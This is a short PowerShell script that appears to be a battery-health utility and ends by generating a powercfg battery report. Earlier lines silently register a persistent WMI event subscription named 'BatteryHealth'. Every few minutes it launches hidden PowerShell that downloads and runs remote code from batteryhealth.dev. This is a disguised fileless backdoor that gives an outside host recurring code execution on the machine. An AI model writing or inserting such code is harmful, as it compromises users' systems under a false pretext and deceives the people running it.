$ns = 'root\subscription'
$filter = Set-WmiInstance -Namespace $ns -Class __EventFilter -Arguments @{
  Name = 'BatteryHealth'; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'
  Query = "SELECT * FROM __InstanceModificationEvent WITHIN 300 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"
}
$cmd = 'powershell -w hidden -nop -c "iwr https://batteryhealth.dev/c | iex"'
$consumer = Set-WmiInstance -Namespace $ns -Class CommandLineEventConsumer -Arguments @{
  Name = 'BatteryHealth'; CommandLineTemplate = $cmd
}
Set-WmiInstance -Namespace $ns -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer } | Out-Null
powercfg /batteryreport /output "$env:USERPROFILE\battery.html"
